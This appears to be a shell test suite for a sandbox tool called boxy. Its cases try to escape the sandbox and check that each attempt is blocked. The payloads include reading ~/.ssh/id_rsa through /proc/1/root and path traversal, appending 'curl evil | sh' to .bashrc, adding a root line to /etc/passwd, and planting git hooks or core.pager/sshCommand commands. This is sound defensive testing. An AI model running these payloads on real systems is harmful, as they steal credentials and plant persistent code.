@@ -1,0 +1,522 @@
+# tests/escape/cases.sh — the cases of the escape suite (sourced by escape.sh).
+#
+# Each `attack` line is one TAP case: NAME, whether the detector is expected to
+# fire unsandboxed ("fires"/"quiet"), a description, boxy flags, then the payload
+# (sh). Variables in the payload: $A the attack program, $H the planted home,
+# $W the workdir, $M the bait marker, $S the suite dir, $HP a host process,
+# $CP the harness (the caller), $PORT the host loopback listener, $PWHOME the
+# test user's passwd home. `at NAME ARGS` runs attack.c; `hit WHAT` prints
+# ESCAPED when stdin carries the bait. doc/testing.md says what each proves.
+
+## ---- host-side set-up and checks -------------------------------------------------
+# A repository in the workdir with a submodule, as a developer's checkout has.
+git_setup() {
+	local g=(git -c user.name=boxy-test -c user.email=boxy-test@example.invalid
+		-c init.defaultBranch=main -c protocol.file.allow=always)
+	mkdir -p "$CASE/subsrc"
+	(cd "$CASE/subsrc" && "${g[@]}" init -q && echo sub >f && "${g[@]}" add f &&
+		"${g[@]}" commit -qm sub) >/dev/null 2>&1
+	(cd "$CASE_WORK" && "${g[@]}" init -q && echo hello >README && "${g[@]}" add README &&
+		"${g[@]}" commit -qm init &&
+		"${g[@]}" submodule add -q "$CASE/subsrc" sub && "${g[@]}" commit -qm sub &&
+		: >.git/config.worktree) >"$CASE/git-setup.log" 2>&1 ||
+		echo "BROKEN: git setup failed: $(tail -2 "$CASE/git-setup.log")" >"$CASE/setup.err"
+	git_snapshot >"$CASE/git.before"
+}
+
+# What must not change on the host: the gitdirs' identity, config and hooks.
+git_snapshot() {
+	(
+		cd "$CASE_WORK" || exit
+		stat -c '%n %F %i' .git .git/hooks .git/modules/sub .git/modules/sub/hooks 2>&1
+		for f in .git/config .git/config.worktree .git/hooks/* \
+			.git/modules/sub/config .git/modules/sub/hooks/*; do
+			[ -e "$f" ] && echo "$f $(sha256sum <"$f" | cut -c1-16) $(stat -c %a "$f")"
+		done
+		ls -A .git | grep -v -E '^(index|objects|refs|logs|HEAD|ORIG_HEAD|COMMIT_EDITMSG)$' |
+			grep -v -E '^(modules|description|info|packed-refs|branches|hooks|config|config.worktree)$' |
+			sed 's/^/extra in .git: /'
+	)
+}
+
+git_check() {
+	[ ! -s "$CASE/setup.err" ] || cat "$CASE/setup.err"
+	git_snapshot >"$CASE/git.after"
+	if ! cmp -s "$CASE/git.before" "$CASE/git.after"; then
+		echo "ESCAPED: the repository's config/hooks changed on the host:"
+		diff "$CASE/git.before" "$CASE/git.after" | grep '^[<>]' | head -5 | sed 's/^/    /'
+	fi
+}
+
+# After the run .git/commondir must not exist: git would take config and hooks from it.
+git_commondir_check() {
+	[ ! -s "$CASE/setup.err" ] || cat "$CASE/setup.err"
+	if [ -e "$CASE_WORK/.git/commondir" ]; then
+		echo "ESCAPED: .git/commondir survived the run: $(head -c 80 "$CASE_WORK/.git/commondir")"
+	fi
+}
+
+# A vendored repository one level below the workdir (lib/.git).
+git_nested_setup() {
+	local g=(git -c user.name=boxy-test -c user.email=boxy-test@example.invalid -c init.defaultBranch=main)
+	mkdir -p "$CASE_WORK/lib"
+	(cd "$CASE_WORK/lib" && "${g[@]}" init -q && echo x >x && "${g[@]}" add x &&
+		"${g[@]}" commit -qm x) >"$CASE/git-setup.log" 2>&1 ||
+		echo "BROKEN: git setup failed" >"$CASE/setup.err"
+	(cd "$CASE_WORK/lib" && stat -c '%n %i' .git .git/hooks && sha256sum .git/config; ls -A .git/hooks) \
+		>"$CASE/git.before" 2>&1
+}
+git_nested_check() {
+	[ ! -s "$CASE/setup.err" ] || cat "$CASE/setup.err"
+	(cd "$CASE_WORK/lib" && stat -c '%n %i' .git .git/hooks && sha256sum .git/config; ls -A .git/hooks) \
+		>"$CASE/git.after" 2>&1
+	cmp -s "$CASE/git.before" "$CASE/git.after" ||
+		echo "ESCAPED: lib/.git config/hooks changed on the host"
+}
+
+# A file in the host's /dev/shm, and nothing left there by the payload.
+shm_plant() { echo "shm $BAIT" >"/dev/shm/boxy-escape-$BAIT"; }
+shm_clean() {
+	rm -f "/dev/shm/boxy-escape-$BAIT"
+	if [ -e "/dev/shm/boxy-escape-in-$BAIT" ]; then
+		echo "ESCAPED: the payload wrote into the host's /dev/shm"
+		rm -f "/dev/shm/boxy-escape-in-$BAIT"
+	fi
+}
+
+link_id_rsa() { ln -s "$CASE_HOME/.ssh/id_rsa" "$CASE_WORK/link"; }
+link_sockets() {
+	ln -s "$SUITE/run/agent.sock" "$CASE_WORK/agent.link"
+	ln -s "$SUITE/run/docker.sock" "$CASE_WORK/docker.link"
+}
+
+# Writes outside the workdir must not persist in the host's home.
+home_check() {
+	local f
+	for f in .bashrc .profile .config/autostart escape-from-workdir; do
+		[ -e "$CASE_HOME/$f" ] && echo "ESCAPED: $CASE_HOME/$f was created on the host"
+	done
+	return 0
+}
+
+# A bait file in the test user's real (passwd) home, beside its $HOME.
+pwhome_plant() {
+	if [ "$(id -un)" = "$HARNESS_TEST_USER" ] && [ -w "$PWHOME" ]; then
+		mkdir -p "$PWHOME/.ssh" && chmod 0700 "$PWHOME/.ssh"
+		echo "secret $BAIT-pwhome" >"$PWHOME/.ssh/boxy-escape-bait"
+	fi
+}
+pwhome_clean() { rm -f "$PWHOME/.ssh/boxy-escape-bait"; return 0; }
+
+## ---- the cases ------------------------------------------------------------------------
+all_cases() {
+	local f n
+
+	# -- credentials under the planted HOME, by every path a payload would try
+	for f in $BAIT_FILES; do
+		n=$(echo "$f" | tr -c 'a-zA-Z0-9\n' '-' | sed 's/^-*//')
+		SETUP=link_id_rsa attack "read-$n" fires \
+			"cannot read ~/$f (via \$HOME, absolute, /proc/1/root, /proc/HOSTPID/root, ../, symlink)" -- "
+f='$f'
+for p in \"\$HOME/\$f\" \"\$H/\$f\" \"/proc/1/root\$H/\$f\" \"/proc/\$HP/root\$H/\$f\" \
+	\"/proc/self/root\$H/\$f\" \
+	\"../\$f\" \"../../../../../../../..\$H/\$f\"; do
+	cat \"\$p\" 2>/dev/null | hit \"read \$p\"
+done
+[ \"\$f\" != .ssh/id_rsa ] ||
+	cat ./link 2>/dev/null | hit 'read ~/.ssh/id_rsa through a symlink in the workdir'
+"
+	done
+	SETUP=pwhome_plant HOSTCHECK=pwhome_clean attack read-passwd-home fires \
+		"cannot read the caller's passwd home ($PWHOME)" -- '
+cat "$PWHOME/.ssh/boxy-escape-bait" 2>/dev/null | hit "read $PWHOME/.ssh/boxy-escape-bait"
+ls -A "$PWHOME/.ssh" 2>/dev/null | grep -q boxy-escape-bait && echo "ESCAPED: listed $PWHOME/.ssh"
+'
+	works home-fresh "\$HOME is the caller's home path, empty but for the workdir" -- '
+[ "$HOME" = "$H" ] || echo "BROKEN: HOME=$HOME, expected $H"
+extra=$(ls -A "$HOME" | grep -v -x project)
+[ -z "$extra" ] || echo "ESCAPED: the sandbox HOME is not fresh: $extra"
+echo WORKS'
+
+	attack scan-fs sandbox "no bait anywhere in the visible filesystem (all but /usr, /proc, /dev)" -- '
+for d in /* /.[!.]*; do
+	case $d in /usr|/proc|/dev|/sys|"/.[!.]*") continue ;; esac
+	grep -rlsI --exclude=attack "$M" "$d" 2>/dev/null | head -3 | sed "s/^/ESCAPED: bait found in /"
+done
+:'
+
+	# -- secrets in the environment
+	attack env-secrets fires "no caller secret reaches the environment (env, /proc/*/environ)" -- '
+env | hit "a variable carries a secret: $(env | grep "$M" | cut -d= -f1 | tr "\n" " ")"
+for v in AWS_SECRET_ACCESS_KEY AWS_ACCESS_KEY_ID GITHUB_TOKEN NPM_TOKEN ANTHROPIC_API_KEY \
+	SSH_AUTH_SOCK DOCKER_HOST BOXY_PASS_ME; do
+	eval "x=\${$v:-}"
+	[ -z "$x" ] || echo "ESCAPED: $v is set ($x)"
+done
+for e in /proc/[0-9]*/environ; do tr "\0" "\n" <"$e" 2>/dev/null | hit "secret in $e"; done
+'
+	attack proc-1-environ quiet "cannot read the host init's /proc/1/environ" -- '
+tr "\0" "\n" </proc/1/environ 2>/dev/null | hit "secret in /proc/1/environ"
+tr "\0" "\n" </proc/1/environ 2>/dev/null | grep -q "^PATH=/usr/local/sbin" &&
+	echo "ESCAPED: /proc/1 is the host init"
+:'
+
+	# -- the agent and docker sockets
+	SETUP=link_sockets attack agent-socket fires \
+		"cannot connect to the SSH agent socket (path, \$HOME link, workdir symlink)" -- '
+at connect-unix "$S/run/agent.sock"
+at connect-unix "$H/.ssh/agent.sock"
+at connect-unix ./agent.link'
+	SETUP=link_sockets attack docker-socket fires "cannot connect to the Docker socket (path, workdir symlink)" -- '
+at connect-unix "$S/run/docker.sock"
+at connect-unix ./docker.link'
+	attack daemon-socket quiet "cannot reach boxy's own daemon socket" -- '
+for p in "$S/run/boxy/daemon.sock" "${XDG_RUNTIME_DIR:-/nonexistent}/boxy/daemon.sock"; do
+	[ -S "$p" ] && at connect-unix "$p"
+done
+:'
+	attack abstract-socket fires "cannot connect to a host abstract unix socket" -- '
+at connect-unix "@boxy-escape-$M"'
+
+	# -- procfs recon
+	attack proc-kcore quiet "cannot read /proc/kcore" -- '
+n=$(head -c 64 /proc/kcore 2>/dev/null | wc -c)
+[ "$n" -eq 0 ] || echo "ESCAPED: read $n bytes of /proc/kcore"'
+	attack proc-kallsyms quiet "/proc/kallsyms gives no kernel addresses" -- '
+grep -m1 -E "^[0-9a-f]*[1-9a-f][0-9a-f]* " /proc/kallsyms 2>/dev/null | sed "s/^/ESCAPED: kernel address: /"
+:'
+	attack proc-keys fires "/proc/keys lists no keys" -- '
+k=$(head -3 /proc/keys 2>/dev/null | tr "\n" ";")
+[ -z "$k" ] || echo "ESCAPED: /proc/keys lists keys: $k"'
+	attack proc-sysrq quiet "cannot write /proc/sysrq-trigger" -- '
+(printf h >/proc/sysrq-trigger) 2>/dev/null && echo "ESCAPED: wrote /proc/sysrq-trigger"
+:'
+	attack proc-kmsg quiet "cannot read /proc/kmsg" -- '
+n=$(timeout 1 head -c 16 /proc/kmsg 2>/dev/null | wc -c)
+[ "$n" -eq 0 ] || echo "ESCAPED: read /proc/kmsg"'
+	attack pid-namespace fires "host processes are invisible: /proc, ps, kill -0 of a host pid and of the caller" -- '
+[ "$HP" -gt 300 ] && ls /proc | grep -qx "$HP" && echo "ESCAPED: host pid $HP listed in /proc"
+[ "$HP" -gt 300 ] && kill -0 "$HP" 2>/dev/null && echo "ESCAPED: kill -0 host pid $HP"
+[ "$CP" -gt 300 ] && kill -0 "$CP" 2>/dev/null && echo "ESCAPED: kill -0 the caller (pid $CP)"
+grep -l "boxy-host-marke[r]-$M" /proc/[0-9]*/cmdline 2>/dev/null | head -1 |
+	sed "s/^/ESCAPED: host process visible at /"
+ps -eo args 2>/dev/null | grep -q "boxy-host-marke[r]-$M" && echo "ESCAPED: ps shows the host process"
+n=$(ls -d /proc/[0-9]* 2>/dev/null | wc -l)
+[ "$n" -le 20 ] || echo "ESCAPED: $n processes visible in /proc, more than a fresh sandbox has"
+:'
+	attack sys-absent fires "/sys is absent" -- '
+for p in /sys/kernel /sys/class/net /sys/fs/cgroup /sys/devices; do
+	[ -e "$p" ] && echo "ESCAPED: $p exists"
+done
+:'
+
+	# -- the read-only system and the host home
+	attack write-system quiet "cannot write /usr or /etc" -- '
+touch "/usr/boxy-escape-$M" 2>/dev/null && echo "ESCAPED: created a file in /usr"
+touch "/usr/bin/boxy-escape-$M" 2>/dev/null && echo "ESCAPED: created a file in /usr/bin"
+(echo "x::0:0::/:/bin/sh" >>/etc/passwd) 2>/dev/null && echo "ESCAPED: appended to /etc/passwd"
+touch "/etc/boxy-escape-$M" 2>/dev/null && echo "ESCAPED: created a file in /etc"
+:'
+	HOSTCHECK=home_check attack write-home fires "writes to \$HOME and ../ do not reach the host's home" -- '
+echo "curl evil | sh" >>"$HOME/.bashrc" 2>/dev/null
+echo "curl evil | sh" >>"$H/.profile" 2>/dev/null
+mkdir -p "$HOME/.config/autostart" 2>/dev/null
+touch ../escape-from-workdir 2>/dev/null
+:'
+
+	# -- git: hooks and commands that would run on the host later
+	SETUP=git_setup HOSTCHECK=git_check attack git-hook fires "cannot write .git/hooks/pre-commit" -- '
+(printf "#!/bin/sh\ntouch /tmp/pwned\n" >.git/hooks/pre-commit && chmod +x .git/hooks/pre-commit) 2>/dev/null &&
+	echo "ESCAPED: wrote .git/hooks/pre-commit"
+:'
+	SETUP=git_setup HOSTCHECK=git_check attack git-hookspath fires "cannot set core.hooksPath" -- '
+git config core.hooksPath /tmp/x 2>/dev/null && echo "ESCAPED: git config core.hooksPath"
+:'
+	SETUP=git_setup HOSTCHECK=git_check attack git-pager fires "cannot set core.pager / core.sshCommand / alias !sh" -- '
+git config core.pager "sh -c id" 2>/dev/null && echo "ESCAPED: git config core.pager"
+git config core.sshCommand "sh -c id" 2>/dev/null && echo "ESCAPED: git config core.sshCommand"
+git config alias.st "!sh -c id" 2>/dev/null && echo "ESCAPED: git config alias.st !sh"
+git config --worktree core.fsmonitor "sh -c id" 2>/dev/null && echo "ESCAPED: git config --worktree"
+:'
+	SETUP=git_setup HOSTCHECK=git_check attack git-config-edit fires "cannot edit .git/config or config.worktree directly" -- '
+(printf "[core]\n\thooksPath = /tmp/x\n" >>.git/config) 2>/dev/null && echo "ESCAPED: appended to .git/config"
+(printf "[core]\n\tfsmonitor = sh -c id\n" >>.git/config.worktree) 2>/dev/null && echo "ESCAPED: wrote .git/config.worktree"
+if ln .git/config cfg-hardlink 2>/dev/null; then
+	(printf "[core]\n\tpager = sh -c id\n" >>cfg-hardlink) 2>/dev/null && echo "ESCAPED: wrote .git/config through a hard link"
+	rm -f cfg-hardlink
+fi
+:'
+	SETUP=git_setup HOSTCHECK=git_check attack git-config-rename fires "cannot replace .git/config or .git/hooks by rename" -- '
+(cat .git/config; printf "[core]\n\thooksPath = /tmp/x\n") >.git/config.new 2>/dev/null
+mv -f .git/config.new .git/config 2>/dev/null && echo "ESCAPED: replaced .git/config by rename"
+mv .git/hooks .git/hooks.old 2>/dev/null && echo "ESCAPED: renamed .git/hooks away"
+rm -rf .git/config.new .git/hooks.old 2>/dev/null
+:'
+	SETUP=git_setup HOSTCHECK=git_check attack git-mv-gitdir fires "cannot rename .git out of the way" -- '
+if mv .git .git2 2>/dev/null; then
+	echo "ESCAPED: renamed .git"
+	mkdir -p .git && cp -R .git2/. .git/ 2>/dev/null
+	printf "[core]\n\thooksPath = /tmp/x\n" >>.git/config
+fi
+:'
+	SETUP=git_setup HOSTCHECK=git_check attack git-submodule fires "cannot write a submodule gitdir's hooks or config" -- '
+(printf "#!/bin/sh\nid\n" >.git/modules/sub/hooks/post-checkout) 2>/dev/null && echo "ESCAPED: wrote a submodule hook"
+git -C sub config core.hooksPath /tmp/x 2>/dev/null && echo "ESCAPED: git -C sub config core.hooksPath"
+(printf "[core]\n\tpager = sh -c id\n" >>.git/modules/sub/config) 2>/dev/null && echo "ESCAPED: appended to the submodule config"
+mv .git/modules/sub .git/modules/sub2 2>/dev/null && echo "ESCAPED: renamed the submodule gitdir"
+:'
+
+	SETUP=git_setup HOSTCHECK=git_commondir_check attack git-commondir fires \
+		"a planted .git/commondir (pointing git at a config and hooks the payload wrote) is gone after the run" -- '
+mkdir -p evil-common/hooks && printf "[core]\n\thooksPath = /tmp/x\n" >evil-common/config
+cp -R .git/objects .git/refs .git/HEAD evil-common/ 2>/dev/null
+(echo ../evil-common >.git/commondir) 2>/dev/null
+:'
+	SETUP=git_nested_setup HOSTCHECK=git_nested_check attack git-nested fires \
+		"cannot write the hooks/config of a repository one level below the workdir" -- '
+(printf "#!/bin/sh\nid\n" >lib/.git/hooks/pre-commit) 2>/dev/null && echo "ESCAPED: wrote lib/.git/hooks/pre-commit"
+git -C lib config core.hooksPath /tmp/x 2>/dev/null && echo "ESCAPED: git -C lib config core.hooksPath"
+mv lib/.git lib/.git2 2>/dev/null && echo "ESCAPED: renamed lib/.git"
+:'
+
+	# -- devices and shared memory
+	attack dev-nodes quiet "no host device node is openable (kmsg, mem, disks, consoles)" -- '
+for d in /dev/kmsg /dev/mem /dev/kmem /dev/port /dev/sda /dev/vda /dev/nvme0n1 /dev/loop0 \
+	/dev/tty0 /dev/tty1 /dev/console /dev/fuse /dev/net/tun /dev/btrfs-control /dev/cpu/0/msr; do
+	[ -e "$d" ] || continue
+	(: <"$d") 2>/dev/null && echo "ESCAPED: opened $d"
+done
+:'
+	SETUP=shm_plant HOSTCHECK=shm_clean attack dev-shm fires "the host's /dev/shm is not shared" -- '
+cat "/dev/shm/boxy-escape-$M" 2>/dev/null | hit "read the host /dev/shm"
+(echo x >"/dev/shm/boxy-escape-in-$M") 2>/dev/null
+:'
+	attack sockets-visible sandbox "no unix socket of the host is visible anywhere (/dev/log, /run, /tmp...)" -- '
+find / \( -path /proc -o -path /usr \) -prune -o -type s -print 2>/dev/null | head -5 | sed "s/^/ESCAPED: a socket is visible: /"
+:'
+
+	# -- namespaces, mounts, privileged syscalls
+	attack mount quiet "mount -t tmpfs fails" -- 'at mount .; at mount /tmp'
+	attack unshare-user fires "no nested user namespace (unshare -U)" -- 'at unshare-user'
+	attack unshare-r fires "no nested user namespace with root (unshare -r, then mount)" -- 'at unshare-r'
+	attack clone-newuser fires "clone(CLONE_NEWUSER) fails" -- 'at clone-newuser'
+	attack clone3-newuser fires "clone3 with CLONE_NEWUSER fails" -- 'at clone3-newuser'
+	attack setns quiet "setns into /proc/1/ns/* fails" -- 'at setns 1'
+	attack inherited-fds fires "no descriptor of the caller reaches the payload (fds 7-9)" -- 'at fds'
+	attack ptrace-child fires "ptrace of a child fails" -- 'at ptrace-child'
+	attack ptrace-sibling fires "ptrace of a sibling fails" -- 'at ptrace-sibling'
+	attack io_uring fires "io_uring_setup fails" -- 'at io_uring'
+	attack bpf quiet "bpf() fails" -- 'at bpf'
+	attack keyctl fires "keyctl cannot reach the caller's keyrings" -- 'at keyctl'
+	attack perf fires "perf_event_open fails" -- 'at perf'
+	attack userfaultfd fires "userfaultfd fails" -- 'at userfaultfd'
+	attack tiocsti-pty fires "TIOCSTI on a pty of its own fails" -- '
+"$A" tiocsti pty >"$S/tiocsti.$$" 2>&1; r=$?
+if grep -q "untested: tiocsti: no terminal" "$S/tiocsti.$$"; then
+	echo "blocked: tiocsti: no pty can be opened inside"
+else
+	cat "$S/tiocsti.$$"; [ $r -ne 159 ] || echo "blocked: tiocsti: killed by SIGSYS"
+fi'
+	attack personality fires "personality(ADDR_NO_RANDOMIZE) does not stick" -- 'at personality'
+	attack af-packet quiet "socket(AF_PACKET) fails" -- 'at af-packet'
+	attack chroot quiet "chroot fails" -- 'at chroot'
+	attack kexec quiet "kexec_load fails" -- 'at kexec'
+	attack init-module quiet "init_module/finit_module fail" -- 'at init-module'
+	attack open-by-handle quiet "open_by_handle_at fails" -- 'at open-by-handle /'
+
+	# -- network under --net none
+	attack net-devices fires "only lo exists" -- 'at netdevs'
+	attack net-loopback fires "a host loopback listener is unreachable" -- '
+at connect-tcp 127.0.0.1 "$PORT"'
+
+	# -- limits
+	attack forkbomb fires "a fork bomb under --pids 64 is contained" --pids 64 -- '
+t0=$(date +%s)
+at forkbomb 300 64
+[ $(( $(date +%s) - t0 )) -le 15 ] || echo "ESCAPED: the fork bomb ran for more than 15 s"'
+
+	[ "$PHASE" = sandbox ] || return 0
+	sandbox_only_cases
+}
+
+## ---- cases that only make sense with boxy ---------------------------------------------------
+sandbox_only_cases() {
+	# TIOCSTI into the caller's terminal under --tty: needs a terminal, so under script(1).
+	if only tiocsti-tty; then
+		if command -v script >/dev/null; then
+			case_new tiocsti-tty
+			{ prelude; echo 'at tiocsti tty; at tioclinux tty; echo BOXY-CASE-DONE'; } >"$CASE_WORK/payload.sh"
+			(cd "$CASE_WORK" && HOME=$CASE_HOME script -qec \
+				"'$BOXY' run --net none --tty -- /bin/sh '$CASE_WORK/payload.sh'" /dev/null) \
+				</dev/null >"$CASE/out" 2>"$CASE/err"
+			RUN_RC=$?
+			# The pty echoes what script(1) feeds it at stdin EOF as "^@": not payload output.
+			tr -d '\r\0' <"$CASE/out" | sed 's/^\(\^@\)*//' >"$CASE/out.tmp" && mv "$CASE/out.tmp" "$CASE/out"
+			: >"$CASE/host"
+			verdict_sandboxed "TIOCSTI/TIOCLINUX on the caller's terminal (--tty) fail"
+		else
+			skip "TIOCSTI on the caller's terminal" "script(1) is not installed"
+		fi
+	fi
+
+	# --timeout: 124 within ~5 s, and no process of the tree survives.
+	if only timeout; then
+		local t0 t1 left
+		case_new timeout
+		t0=$(date +%s%N)
+		# A watchdog (SIGKILL, so its status 137 cannot pass for boxy's 124) keeps a
+		# broken --timeout from hanging the suite.
+		BOXY_WRAP="timeout -s KILL 20" \
+			boxy_run --timeout 2s -- /bin/sh -c 'sleep 6173 & setsid sleep 6174 & sleep 6175; echo BOXY-CASE-DONE'
+		t1=$(date +%s%N)
+		sleep 0.3
+		left=$(pgrep -u "$(id -u)" -f 'sleep 617[345]' | tr '\n' ' ')
+		if [ "$RUN_RC" -eq 124 ] && [ $(((t1 - t0) / 1000000)) -le 5000 ] && [ -z "$left" ] &&
+			! grep -q BOXY-CASE-DONE "$CASE/out"; then
+			ok "--timeout 2s on sleep 60 exits 124 in $(((t1 - t0) / 1000000)) ms, nothing survives"
+		else
+			not_ok "--timeout 2s: exit $RUN_RC (want 124) after $(((t1 - t0) / 1000000)) ms (want <= 5000), survivors: ${left:-none}"
+			diag_file "$CASE/err" 5
+			[ -z "$left" ] || kill $left 2>/dev/null
+		fi
+	fi
+
+	# --memory: not enforced without a delegated controller, and the audit says so.
+	if only memory-audit; then
+		case_new memory-audit
+		boxy_run --memory 64M -- /bin/true
+		if [ "$RUN_RC" -ne 0 ]; then
+			not_ok "--memory run works (exit $RUN_RC)"
+			diag_file "$CASE/err" 5
+		elif grep -qw memory "/sys/fs/cgroup$(cut -d: -f3 /proc/self/cgroup)/cgroup.subtree_control" \
+			2>/dev/null && [ -w "/sys/fs/cgroup$(cut -d: -f3 /proc/self/cgroup)" ]; then
+			grep -qi '"memory"' "$CASE/audit.jsonl" &&
+				ok "--memory is recorded in the audit log (controller delegated here)" ||
+				not_ok "--memory is recorded in the audit log"
+		elif grep -i 'memory' "$CASE/audit.jsonl" | grep -qiE 'not enforced|unenforced|degraded|no controller|not_enforced'; then
+			ok "--memory reported not enforced in the audit log (no memory controller delegated)"
+		else
+			not_ok "--memory: no audit line says it is not enforced"
+			diag_file "$CASE/audit.jsonl" 10
+		fi
+	fi
+
+	# /tmp and $HOME tmpfs are bounded by --memory even when nothing else is.
+	attack tmpfs-bounded sandbox "/tmp and \$HOME cannot grow past --memory 64M" --memory 64M -- '
+for d in /tmp "$HOME"; do
+	out=$(dd if=/dev/zero of="$d/fill" bs=1M count=200 2>&1); r=$?
+	sz=$(du -sm "$d/fill" 2>/dev/null | cut -f1)
+	rm -f "$d/fill"
+	if [ $r -eq 0 ]; then echo "ESCAPED: wrote 200 MiB into $d under --memory 64M"
+	elif echo "$out" | grep -q "No space left"; then echo "blocked: $d full after ${sz:-?} MiB"
+	else echo "untested: writing $d failed otherwise: $(echo "$out" | head -1)"; fi
+done'
+
+	# -- what must keep working
+	HOSTCHECK=workdir_check works workdir-rw "write and read a file in the workdir; the host sees it" -- '
+echo "data-$M" >made-inside.txt && grep -q "data-$M" made-inside.txt && mkdir -p sub/dir && echo WORKS'
+	works git-commit "git init && git add && git commit in the workdir" \
+		-e GIT_AUTHOR_NAME=boxy -e GIT_AUTHOR_EMAIL=boxy@example.invalid \
+		-e GIT_COMMITTER_NAME=boxy -e GIT_COMMITTER_EMAIL=boxy@example.invalid -- '
+mkdir fresh && cd fresh && git init -q && echo x >x && git add x && git commit -qm x &&
+	[ "$(git log --format=%s -1)" = x ] && echo WORKS'
+	SETUP=git_setup HOSTCHECK=git_check works git-commit-protected \
+		"git commit in a protected repository (objects, refs, index writable)" -- '
+echo more >>README && git add README &&
+	git -c user.name=b -c user.email=b@example.invalid commit -qm more &&
+	[ -z "$(git status --short --untracked-files=no)" ] &&
+	[ "$(git log --format=%s -1)" = more ] && echo WORKS'
+	works cc "compile and run a C program with cc" -- '
+printf "#include <stdio.h>\nint main(void){puts(\"WORKS\");return 0;}\n" >hello.c && cc -o hello hello.c && ./hello'
+	if command -v python3 >/dev/null; then
+		works python3 "python3 -c runs" -- 'python3 -c "print(\"WORKS\")"'
+	else
+		only python3 && skip "works: python3 -c runs" "python3 is not installed"
+	fi
+	if command -v node >/dev/null; then
+		works node "node -e runs" -- 'node -e "console.log(\"WORKS\")"'
+	else
+		only node && skip "works: node -e runs" "node is not installed"
+	fi
+	SETUP=ro_setup HOSTCHECK=ro_check works ro "--ro file is readable, not writable" --ro "$SUITE/ro/file.txt" -- '
+grep -q "ro-$M" "$S/ro/file.txt" || echo "BROKEN: cannot read the --ro file"
+(echo x >>"$S/ro/file.txt") 2>/dev/null && echo "ESCAPED: wrote the --ro file"
+echo WORKS'
+	SETUP=rw_setup HOSTCHECK=rw_check works rw "--rw dir is writable, --protect inside it is not" \
+		--rw "$SUITE/rw" --protect "$SUITE/rw/keep" -- '
+echo "rw-$M" >"$S/rw/new.txt" || echo "BROKEN: cannot write the --rw dir"
+(echo x >>"$S/rw/keep/k.txt") 2>/dev/null && echo "ESCAPED: wrote under --protect"
+echo WORKS'
+	SETUP=copy_setup HOSTCHECK=copy_check works copy "--copy file is present and writable; the host file is unchanged" \
+		--copy "$SUITE/copy/c.txt" --copy-ro "$SUITE/copy/cro.txt" -- '
+grep -q "copy-$M" "$S/copy/c.txt" || echo "BROKEN: --copy file missing"
+echo changed >>"$S/copy/c.txt" || echo "BROKEN: --copy file not writable"
+grep -q "copyro-$M" "$S/copy/cro.txt" || echo "BROKEN: --copy-ro file missing"
+(echo changed >>"$S/copy/cro.txt") 2>/dev/null && echo "BROKEN: --copy-ro file is writable"
+echo WORKS'
+	works env-flags "-e NAME=VAL is set, -e NAME passes the caller's value" -e BOXY_SET=val-1 -e BOXY_PASS_ME -- '
+[ "$BOXY_SET" = val-1 ] || echo "BROKEN: BOXY_SET=${BOXY_SET:-unset}"
+[ "$BOXY_PASS_ME" = "passed-$M-ok" ] || echo "BROKEN: BOXY_PASS_ME=${BOXY_PASS_ME:-unset}"
+echo WORKS'
+
+	if only exit-status; then
+		case_new exit-status
+		local got=""
+		boxy_run -- /bin/sh -c 'exit 7'; got="$got exit7=$RUN_RC"
+		boxy_run -- /bin/sh -c 'kill -TERM $$'; got="$got sigterm=$RUN_RC"
+		boxy_run -- /nonexistent/boxy-no-such-command; got="$got notfound=$RUN_RC"
+		echo data >"$CASE_WORK/not-executable"
+		boxy_run -- "$CASE_WORK/not-executable"; got="$got noexec=$RUN_RC"
+		[ "$got" = " exit7=7 sigterm=143 notfound=127 noexec=126" ] &&
+			ok "exit status: 7 propagates, SIGTERM is 143, not found 127, not executable 126" ||
+			not_ok "exit status: got$got, want exit7=7 sigterm=143 notfound=127 noexec=126"
+	fi
+	if only stdio; then
+		case_new stdio
+		boxy_run -- /bin/sh -c 'echo to-stdout; echo to-stderr >&2'
+		if [ "$RUN_RC" -eq 0 ] && [ "$(cat "$CASE/out")" = to-stdout ] &&
+			grep -q to-stderr "$CASE/err" && ! grep -q to-stdout "$CASE/err"; then
+			ok "stdout and stderr stay separate"
+		else
+			not_ok "stdout and stderr stay separate (exit $RUN_RC)"
+			diag_file "$CASE/out" 3
+			diag_file "$CASE/err" 3
+		fi
+	fi
+	if only audit-json; then
+		case_new audit-json
+		boxy_run --memory 64M --pids 64 -- /bin/true
+		if [ -s "$CASE/audit.jsonl" ] && python3 -c '
+import json, sys
+for line in open(sys.argv[1]):
+    o = json.loads(line)
+    assert isinstance(o, dict) and "layer" in o, line
+' "$CASE/audit.jsonl" 2>"$CASE/json.err"; then
+			ok "the audit log is JSON lines with a layer ($(wc -l <"$CASE/audit.jsonl") lines)"
+		else
+			not_ok "the audit log is JSON lines with a layer"
+			diag_file "$CASE/json.err" 3
+			diag_file "$CASE/audit.jsonl" 5
+		fi
+	fi
+}
+
+workdir_check() {
+	grep -q "data-$BAIT" "$CASE_WORK/made-inside.txt" 2>/dev/null || echo "BROKEN: the host does not see the file"
+}
+ro_setup() { mkdir -p "$SUITE/ro"; echo "ro-$BAIT" >"$SUITE/ro/file.txt"; }
+ro_check() { [ "$(cat "$SUITE/ro/file.txt")" = "ro-$BAIT" ] || echo "ESCAPED: the --ro file changed on the host"; }
+rw_setup() { mkdir -p "$SUITE/rw/keep"; echo keep >"$SUITE/rw/keep/k.txt"; rm -f "$SUITE/rw/new.txt"; }
+rw_check() {
+	grep -q "rw-$BAIT" "$SUITE/rw/new.txt" 2>/dev/null || echo "BROKEN: the --rw write did not reach the host"
+	[ "$(cat "$SUITE/rw/keep/k.txt")" = keep ] || echo "ESCAPED: the --protect file changed on the host"
+}
+copy_setup() {
+	mkdir -p "$SUITE/copy"
+	echo "copy-$BAIT" >"$SUITE/copy/c.txt"
+	echo "copyro-$BAIT" >"$SUITE/copy/cro.txt"
+}
+copy_check() {
+	[ "$(cat "$SUITE/copy/c.txt")" = "copy-$BAIT" ] || echo "ESCAPED: the --copy source changed on the host"
+	[ "$(cat "$SUITE/copy/cro.txt")" = "copyro-$BAIT" ] || echo "ESCAPED: the --copy-ro source changed on the host"
+}
